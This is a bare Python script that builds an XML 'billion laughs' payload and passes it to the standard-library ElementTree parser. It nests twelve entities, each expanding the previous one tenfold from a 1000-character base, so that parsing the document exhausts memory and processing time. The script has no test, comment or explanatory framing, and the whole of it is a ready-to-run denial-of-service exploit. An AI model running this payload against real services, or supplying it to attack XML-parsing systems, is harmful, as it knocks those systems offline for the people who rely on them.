import xml.etree.ElementTree as ET

entities = '<!ENTITY a "' + "x" * 1000 + '">'
for i in range(1, 12):
    entities += f'<!ENTITY {chr(97 + i)} "' + f"&{chr(96 + i)};" * 10 + '">'
ET.fromstring(f"<!DOCTYPE r [{entities}]><r>&l;</r>")
